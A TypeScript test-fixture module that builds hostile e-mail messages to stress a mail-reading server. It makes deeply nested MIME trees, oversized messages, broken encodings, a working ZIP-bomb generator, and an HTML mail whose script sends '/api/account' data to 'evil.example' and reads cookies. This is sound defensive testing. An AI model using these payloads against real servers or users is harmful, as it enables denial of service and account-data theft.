import { randomUUID } from 'node:crypto';
import { constants, crc32, createDeflateRaw } from 'node:zlib';

/**
 * Raw e-mail messages made to hurt a server that reads them: deep or wide MIME trees, sizes past
 * the limits, encodings that do not decode, an archive that inflates to gigabytes, HTML that
 * tries to run. Written byte by byte, so each is exactly what its name says.
 */

export const HOSTILE_SENDER = 'service@stall.example';

const CRLF = '\r\n';

/** A message with these headers (From, Subject, Message-ID, Date and MIME-Version unless given) and this body. */
export function rawMail(headers: Record<string, string>, body: string | Buffer): Buffer {
  const all: Record<string, string> = {
    From: `Stall Motors <${HOSTILE_SENDER}>`,
    To: 'owner@example.test',
    Subject: 'Re: Downtime compensation claim',
    'Message-ID': `<hostile-${randomUUID()}@stall.example>`,
    Date: new Date().toUTCString(),
    'MIME-Version': '1.0',
    ...headers,
  };
  const head = Object.entries(all)
    .map(([name, value]) => `${name}: ${value}`)
    .join(CRLF);
  return Buffer.concat([Buffer.from(`${head}${CRLF}${CRLF}`, 'latin1'), typeof body === 'string' ? Buffer.from(body, 'latin1') : body]);
}

/** Base64 in lines of 76 characters, as mail carries it. */
const base64Lines = (bytes: Buffer) => bytes.toString('base64').replace(/.{76}/g, `$&${CRLF}`);

/** A multipart/mixed body of these parts (each its headers, an empty line and its content). */
function multipart(boundary: string, parts: string[]): string {
  return `${parts.map((part) => `--${boundary}${CRLF}${part}${CRLF}`).join('')}--${boundary}--${CRLF}`;
}

/** An attachment part's header lines and the empty line that ends them. */
const attachmentHeaders = (name: string, type: string, encoding: string) => [
  `Content-Type: ${type}; name="${name}"`,
  `Content-Disposition: attachment; filename="${name}"`,
  `Content-Transfer-Encoding: ${encoding}`,
  '',
];

const attachmentPart = (name: string, type: string, bytes: Buffer) => [...attachmentHeaders(name, type, 'base64'), base64Lines(bytes)].join(CRLF);

const textPart = (text: string) => ['Content-Type: text/plain; charset=utf-8', '', text].join(CRLF);

/** Multiparts nested `depth` deep, one inside the other, a line of text at the bottom (10,000 levels are about 600 KB). */
export function nestedMail(depth: number): Buffer {
  const opening: string[] = [];
  const closing: string[] = [];
  for (let level = 0; level < depth; level += 1) {
    opening.push(`Content-Type: multipart/mixed; boundary="n${level}"${CRLF}${CRLF}--n${level}${CRLF}`);
    closing.push(`${CRLF}--n${level}--`);
  }
  const headers = rawMail({}, '')
    .toString('latin1')
    .replace(/\r\n\r\n$/, CRLF);
  return Buffer.from(`${headers}${opening.join('')}Content-Type: text/plain${CRLF}${CRLF}deep${closing.reverse().join('')}${CRLF}`, 'latin1');
}

/** A short text and `count` attachments, each a part of its own with a file name and base64 content. */
export function manyAttachmentsMail(count: number): Buffer {
  const boundary = `many-${randomUUID()}`;
  const attachments = Array.from({ length: count }, (_, index) =>
    attachmentPart(`receipt-${index + 1}.txt`, 'text/plain', Buffer.from(`Receipt ${index + 1}: $1.00\n`)),
  );
  return rawMail({ 'Content-Type': `multipart/mixed; boundary="${boundary}"` }, multipart(boundary, [textPart('The receipts are attached.'), ...attachments]));
}

/**
 * A text and one attachment making the message `bytes` long or a little more: lines of scan data
 * written straight into a buffer (no string of that size is made, so nothing of it is left for
 * the test's garbage collector while the probes run).
 */
export function hugeMail(bytes: number): Buffer {
  const boundary = `huge-${randomUUID()}`;
  const opening = [
    `--${boundary}`,
    textPart('The scans are attached.'),
    `--${boundary}`,
    ...attachmentHeaders('scans.bin', 'application/octet-stream', '7bit'),
    '',
  ].join(CRLF);
  const closing = `${CRLF}--${boundary}--${CRLF}`;
  return rawMail(
    { 'Content-Type': `multipart/mixed; boundary="${boundary}"` },
    Buffer.concat([
      Buffer.from(opening, 'latin1'),
      Buffer.alloc(bytes, `scan data ${'0123456789'.repeat(6)}${CRLF}`, 'latin1'),
      Buffer.from(closing, 'latin1'),
    ]),
  );
}

/** A header of `bytes` folded into lines of 998 characters at most, then a short text. */
export function bigHeaderMail(bytes: number): Buffer {
  const line = 'p'.repeat(990);
  const lines = Array.from({ length: Math.ceil(bytes / line.length) }, () => line);
  return rawMail({ 'X-Padding': lines.join(`${CRLF}\t`), 'Content-Type': 'text/plain; charset=utf-8' }, `A reply under a large header.${CRLF}`);
}

/** Messages whose encodings do not decode, each answering `inReplyTo`, by what is wrong with them. */
export function brokenEncodingMails(inReplyTo: string): Record<string, Buffer> {
  const reply = (headers: Record<string, string>, body: string | Buffer) => rawMail({ 'In-Reply-To': inReplyTo, ...headers }, body);
  const boundary = `cut-${randomUUID()}`;
  return {
    'bad base64': reply(
      { 'Content-Type': 'text/plain; charset=utf-8', 'Content-Transfer-Encoding': 'base64' },
      `@@@ this is not base64 \xff\xfe ==== ####${CRLF}V2UgY2FuIG9mZmVy!!!${CRLF}`,
    ),
    'unknown charset': reply(
      { 'Content-Type': 'text/plain; charset="x-no-such-charset-9"', 'Content-Transfer-Encoding': '8bit' },
      `We can offer \xa4150 \xe9\xe8\xff for the days without your car.${CRLF}`,
    ),
    'bad encoded-words': reply(
      {
        Subject: '=?utf-8?B?###?= =?x-unknown?Q?=ZZ=?= =?utf-8?Q?=FF=FE=00?= =?utf-8?B?',
        From: `=?utf-8?Q?=C3?= <${HOSTILE_SENDER}>`,
        'Content-Type': 'text/plain; charset=utf-8',
      },
      `We can offer $150.${CRLF}`,
    ),
    'a multipart cut off before its closing boundary': reply(
      { 'Content-Type': `multipart/mixed; boundary="${boundary}"` },
      [
        `--${boundary}`,
        textPart('We can offer $150. The invoice is attached.'),
        `--${boundary}`,
        ...attachmentHeaders('invoice.pdf', 'application/pdf', 'base64'),
        'JVBERi0xLjcKJeLjz9MKMSAwIG9iago8PCAvVHlwZSAvQ2F0YWxvZyAvUGFnZXMgMiAwIFIg',
        'PDAgL1BhZ2VzIDIgMCBSID4+CmVuZG9iagoyIDAgb2JqCjw8IC9UeXBlIC9QYWdlcyAvS2lk',
      ].join(CRLF),
    ),
    'NUL bytes': reply(
      { Subject: 'Re: claim\x00 with a NUL', 'Content-Type': `multipart/mixed; boundary="${boundary}"` },
      multipart(boundary, [
        ['Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: 8bit', '', 'We can offer\x00 $150.\x00\x00 Regards'].join(CRLF),
        attachmentPart('note\x00.txt', 'text/plain', Buffer.from('a\x00b')),
      ]),
    ),
  };
}

/**
 * A ZIP archive of one file of `mebibytes` MiB of zeros, about a thousandth of that in size: the
 * deflate stream is one mebibyte's flushed block repeated (after the first, each block says the
 * same thing of a window of zeros), ended by an empty last block; local header, central directory
 * and its end written by hand.
 */
export async function zipBomb(mebibytes: number): Promise<Buffer> {
  const zeros = Buffer.alloc(1024 * 1024);
  const deflate = createDeflateRaw({ level: 9 });
  const output: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => output.push(chunk));
  const flushed = async () => {
    deflate.write(zeros);
    await new Promise<void>((resolve) => deflate.flush(constants.Z_SYNC_FLUSH, () => resolve()));
    return Buffer.concat(output.splice(0));
  };
  const first = await flushed();
  const next = await flushed();
  deflate.destroy();
  const compressed = Buffer.concat([first, ...Array<Buffer>(mebibytes - 1).fill(next), Buffer.from([0x03, 0x00])]);
  let crc = 0;
  for (let block = 0; block < mebibytes; block += 1) crc = crc32(zeros, crc);
  const size = mebibytes * 1024 * 1024;
  const name = Buffer.from('zeros.bin');

  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4); // version needed
  local.writeUInt16LE(8, 8); // deflate
  local.writeUInt32LE(crc >>> 0, 14);
  local.writeUInt32LE(compressed.length, 18);
  local.writeUInt32LE(size >>> 0, 22);
  local.writeUInt16LE(name.length, 26);

  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4); // made by
  central.writeUInt16LE(20, 6); // version needed
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc >>> 0, 16);
  central.writeUInt32LE(compressed.length, 20);
  central.writeUInt32LE(size >>> 0, 24);
  central.writeUInt16LE(name.length, 28);
  central.writeUInt32LE(0, 42); // the local header's offset

  const directoryAt = local.length + name.length + compressed.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(directoryAt, 16);
  return Buffer.concat([local, name, compressed, central, name, end]);
}

/** A reply to `inReplyTo` with these files attached (name, type, bytes); `headers` replace the defaults. */
export function replyWithAttachments(
  inReplyTo: string,
  text: string,
  files: Array<{ name: string; type: string; bytes: Buffer }>,
  headers: Record<string, string> = {},
): Buffer {
  const boundary = `files-${randomUUID()}`;
  return rawMail(
    { 'In-Reply-To': inReplyTo, ...headers, 'Content-Type': `multipart/mixed; boundary="${boundary}"` },
    multipart(boundary, [textPart(text), ...files.map((file) => attachmentPart(file.name, file.type, file.bytes))]),
  );
}

/** An HTML-only reply to `inReplyTo` that tries to run a script and load an image with a handler. */
export function scriptedHtmlMail(inReplyTo: string): Buffer {
  return rawMail(
    { 'In-Reply-To': inReplyTo, 'Content-Type': 'text/html; charset=utf-8' },
    [
      '<html><head><script>fetch("/api/account").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script></head>',
      '<body onload="alert(1)"><p>We can offer $90 for the days without your car.</p>',
      '<img src=x onerror="alert(document.cookie)"><iframe src="https://evil.example"></iframe>',
      '<a href="javascript:alert(2)">details</a></body></html>',
    ].join(CRLF),
  );
}
